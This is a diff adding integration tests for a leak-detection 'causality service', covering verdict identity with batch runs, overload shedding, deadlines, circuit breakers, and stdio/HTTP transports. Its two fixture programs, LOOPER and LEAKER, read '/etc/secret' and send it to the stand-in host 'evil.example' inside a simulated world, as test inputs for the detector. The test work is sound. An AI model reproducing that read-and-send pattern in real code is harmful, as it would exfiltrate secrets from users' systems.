@@ -1,0 +1,337 @@
+"""Integration tests for the causality service.
+
+The load-bearing invariant: a verdict served by the daemon is
+byte-identical to the batch path (``run_dual`` with the same program,
+input, mutation, faults and budget) — admission control, deadlines,
+breakers and transports add latency and explicit degradation, never
+verdict changes.
+"""
+
+import io
+import json
+import os
+import signal
+import subprocess
+import sys
+import threading
+import urllib.request
+
+import pytest
+
+from repro.core import config_from_spec, run_dual
+from repro.core.supervisor import RunBudget
+from repro.serve import (
+    HttpTransport,
+    LdxService,
+    ServeConfig,
+    StdioTransport,
+    api,
+)
+from repro.serve.service import _world_from_spec
+from repro.workloads import get_workload
+
+LOOPER = """
+fn main() {
+  var i = 0;
+  var sum = 0;
+  while (i < 1000000) {
+    sum = sum + i;
+    i = i + 1;
+  }
+  var fd = open("/etc/secret", "r");
+  var secret = read(fd, 16);
+  var sock = socket();
+  connect(sock, "evil.example", 80);
+  send(sock, secret);
+  return 0;
+}
+"""
+
+LEAKER = """
+fn main() {
+  var fd = open("/etc/secret", "r");
+  var secret = read(fd, 64);
+  var sock = socket();
+  connect(sock, "evil.example", 80);
+  send(sock, secret);
+  return 0;
+}
+"""
+
+
+def _service(**overrides) -> LdxService:
+    settings = dict(workers=2, log_stream=io.StringIO())
+    settings.update(overrides)
+    return LdxService(ServeConfig(**settings))
+
+
+def _source_request(request_id="s1", **overrides):
+    payload = {
+        "id": request_id,
+        "source": LEAKER,
+        "world": {
+            "files": {"/etc/secret": "hunter2"},
+            "endpoints": {"evil.example:80": "ok"},
+        },
+        "sources": {"files": ["/etc/secret"]},
+        "sinks": "network",
+    }
+    payload.update(overrides)
+    return payload
+
+
+def _canonical(result) -> str:
+    return json.dumps(api.verdict_payload(result), sort_keys=True)
+
+
+# -- verdict identity ----------------------------------------------------------
+
+
+def test_workload_verdicts_identical_to_batch():
+    service = _service().start()
+    try:
+        for variant, config_of in (
+            ("leak", lambda w: w.leak_variant()),
+            ("table3", lambda w: w.table3_variant()),
+        ):
+            response = service.submit_and_wait(
+                {"id": variant, "workload": "gzip", "variant": variant},
+                timeout=120,
+            )
+            assert response["status"] == "ok"
+            workload = get_workload("gzip")
+            batch = run_dual(
+                workload.instrumented, workload.build_world(1), config_of(workload)
+            )
+            assert (
+                json.dumps(response["verdict"], sort_keys=True) == _canonical(batch)
+            )
+    finally:
+        assert service.drain(timeout=120)
+
+
+def test_source_request_verdict_identical_to_batch():
+    service = _service().start()
+    try:
+        response = service.submit_and_wait(_source_request(), timeout=120)
+        assert response["status"] == "ok"
+        assert response["verdict"]["causality"] is True
+
+        request = api.parse_request(_source_request())
+        from repro.cache import instrumented_for
+
+        batch = run_dual(
+            instrumented_for(LEAKER),
+            _world_from_spec(request.world_spec),
+            config_from_spec(request.sources_spec, request.sinks_spec, None),
+            **RunBudget.from_deadline(request.deadline).engine_kwargs(),
+        )
+        assert json.dumps(response["verdict"], sort_keys=True) == _canonical(batch)
+    finally:
+        assert service.drain(timeout=120)
+
+
+def test_repeat_requests_hit_the_warm_factory():
+    service = _service().start()
+    try:
+        first = service.submit_and_wait(_source_request("a"), timeout=120)
+        second = service.submit_and_wait(_source_request("b"), timeout=120)
+        assert first["cache"]["factory"] == "miss"
+        assert second["cache"]["factory"] == "hit"
+        assert second["verdict"] == first["verdict"]
+    finally:
+        assert service.drain(timeout=120)
+
+
+# -- robustness ----------------------------------------------------------------
+
+
+def test_overload_sheds_explicitly_and_backlog_still_drains():
+    # No workers running: the queue fills deterministically.
+    service = _service(workers=1, queue_capacity=2, high_watermark=2)
+    tickets = [
+        service.submit({"id": f"q{i}", "workload": "tnftp", "variant": "leak"})
+        for i in range(4)
+    ]
+    shed = [t for t in tickets if t.done]
+    assert len(shed) == 2  # two admitted, two shed immediately
+    for ticket in shed:
+        assert ticket.response["status"] == api.STATUS_OVERLOADED
+        assert ticket.response["reason"]
+    # Start and drain: the admitted backlog completes with verdicts.
+    service.start()
+    assert service.drain(timeout=120)
+    for ticket in tickets:
+        assert ticket.done
+    ok = [t for t in tickets if t.response["status"] == "ok"]
+    assert len(ok) == 2
+
+
+def test_tiny_deadline_degrades_to_partial_never_hangs():
+    service = _service().start()
+    try:
+        response = service.submit_and_wait(
+            _source_request("tiny", source=LOOPER, deadline=10.0), timeout=120
+        )
+        assert response is not None, "tiny-deadline request hung"
+        assert response["status"] == "ok"
+        degradation = response["degradation"]
+        assert degradation["confidence"] == "partial"
+        assert degradation["budget_exhausted"]
+        # The diagnosis is in the verdict too: both sides were cut off.
+        assert any(
+            "instruction budget exceeded" in crash[1]
+            for crash in response["verdict"]["crashes"]
+        )
+    finally:
+        assert service.drain(timeout=120)
+
+
+def test_breaker_opens_after_repeated_engine_failures_and_recovers(monkeypatch):
+    from repro.serve.breaker import BreakerBoard
+
+    class FakeClock:
+        now = 0.0
+
+        def __call__(self):
+            return self.now
+
+    clock = FakeClock()
+    service = _service(breaker_threshold=2).start()
+    service.breakers = BreakerBoard(threshold=2, cooldown=30.0, clock=clock)
+    try:
+        original = LdxService._factory_for
+        state = {"explode": True}
+
+        def flaky(self, request):
+            if state["explode"]:
+                raise RuntimeError("synthetic engine failure")
+            return original(self, request)
+
+        monkeypatch.setattr(LdxService, "_factory_for", flaky)
+        payload = {"id": "x", "workload": "gzip", "variant": "leak"}
+        for index in range(2):
+            response = service.submit_and_wait(dict(payload, id=f"x{index}"),
+                                               timeout=120)
+            assert response["status"] == api.STATUS_ERROR
+        # Breaker open: fast-fail without touching the engine.
+        response = service.submit_and_wait(dict(payload, id="x2"), timeout=120)
+        assert response["status"] == api.STATUS_UNAVAILABLE
+        assert "circuit open" in response["reason"]
+        # After the cooldown the next request is the half-open probe;
+        # the engine is healthy again, so the breaker closes.
+        state["explode"] = False
+        clock.now = 31.0
+        response = service.submit_and_wait(dict(payload, id="x3"), timeout=120)
+        assert response["status"] == "ok"
+        response = service.submit_and_wait(dict(payload, id="x4"), timeout=120)
+        assert response["status"] == "ok"
+    finally:
+        assert service.drain(timeout=120)
+
+
+def test_drain_stops_admission_and_joins_workers():
+    service = _service().start()
+    response = service.submit_and_wait(
+        {"id": "a", "workload": "tnftp", "variant": "leak"}, timeout=120
+    )
+    assert response["status"] == "ok"
+    service.begin_drain()
+    late = service.submit({"id": "late", "workload": "tnftp", "variant": "leak"})
+    assert late.done
+    assert late.response["status"] == api.STATUS_OVERLOADED
+    assert "draining" in late.response["reason"]
+    assert service.drain(timeout=120)
+    assert not service.alive()
+    assert not service.ready()
+
+
+# -- transports ----------------------------------------------------------------
+
+
+def test_stdio_transport_roundtrip_in_request_order():
+    lines = [
+        json.dumps({"id": "a", "workload": "gzip", "variant": "leak"}),
+        "not json at all",
+        json.dumps({"id": "c", "workload": "gzip", "variant": "leak"}),
+    ]
+    out = io.StringIO()
+    transport = StdioTransport(
+        _service(), in_stream=io.StringIO("\n".join(lines) + "\n"), out_stream=out
+    )
+    assert transport.serve_forever(handle_signals=False) == 0
+    responses = [json.loads(line) for line in out.getvalue().splitlines()]
+    assert [r["id"] for r in responses] == ["a", None, "c"]
+    assert responses[0]["status"] == "ok"
+    assert responses[1]["status"] == api.STATUS_INVALID
+    assert responses[2]["verdict"] == responses[0]["verdict"]
+
+
+def test_http_transport_roundtrip_and_probes():
+    service = _service()
+    transport = HttpTransport(service, port=0)
+    thread = threading.Thread(
+        target=transport.serve_forever,
+        kwargs={"handle_signals": False, "announce_stream": io.StringIO()},
+        daemon=True,
+    )
+    thread.start()
+    base = f"http://127.0.0.1:{transport.port}"
+    try:
+        with urllib.request.urlopen(base + "/healthz", timeout=10) as reply:
+            assert json.loads(reply.read())["alive"] is True
+        with urllib.request.urlopen(base + "/readyz", timeout=10) as reply:
+            assert json.loads(reply.read())["ready"] is True
+        request = urllib.request.Request(
+            base + "/v1/infer",
+            data=json.dumps(
+                {"id": "h", "workload": "gzip", "variant": "leak"}
+            ).encode(),
+        )
+        with urllib.request.urlopen(request, timeout=120) as reply:
+            assert reply.status == 200
+            payload = json.loads(reply.read())
+        assert payload["status"] == "ok"
+        assert payload["verdict"]["causality"] is True
+        # Invalid request → HTTP 400 with a diagnosis.
+        bad = urllib.request.Request(base + "/v1/infer", data=b"{nope")
+        with pytest.raises(urllib.error.HTTPError) as failure:
+            urllib.request.urlopen(bad, timeout=30)
+        assert failure.value.code == 400
+        assert json.loads(failure.value.read())["status"] == api.STATUS_INVALID
+        with urllib.request.urlopen(base + "/statz", timeout=10) as reply:
+            stats = json.loads(reply.read())
+        # The invalid request was rejected at admission, not served.
+        assert stats["served"] == 1
+        assert stats["errors"] == 0
+    finally:
+        transport.request_stop()
+        thread.join(timeout=60)
+        assert not thread.is_alive()
+        assert not service.alive()  # drained
+
+
+def test_sigterm_drains_stdio_daemon_to_exit_zero(tmp_path):
+    env = dict(os.environ)
+    env["PYTHONPATH"] = os.path.join(os.path.dirname(__file__), "..", "..", "src")
+    process = subprocess.Popen(
+        [sys.executable, "-m", "repro", "serve", "--workers", "1"],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+        env=env,
+        text=True,
+        cwd=str(tmp_path),
+    )
+    try:
+        process.stdin.write(
+            json.dumps({"id": "a", "workload": "tnftp", "variant": "leak"}) + "\n"
+        )
+        process.stdin.flush()
+        response = json.loads(process.stdout.readline())
+        assert response["status"] == "ok"
+        process.send_signal(signal.SIGTERM)
+        assert process.wait(timeout=120) == 0
+    finally:
+        if process.poll() is None:
+            process.kill()
